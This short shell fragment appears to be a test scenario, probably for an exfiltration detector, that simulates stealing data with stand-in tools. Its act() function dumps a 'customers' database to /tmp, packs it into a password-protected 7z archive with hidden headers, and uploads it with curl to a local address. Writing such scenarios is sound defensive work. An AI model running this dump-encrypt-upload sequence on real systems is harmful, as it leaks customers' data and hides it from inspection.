# A database is dumped to /tmp, packed with a password and sent (harmless programs stand for 7z).
prepare() { stand_in 7z; }
act() {
    pg_dump -f /tmp/c.sql customers
    7z a -pSecret -mhe=on /tmp/c.7z /tmp/c.sql
    curl -s -T /tmp/c.7z http://127.0.0.1/up
}
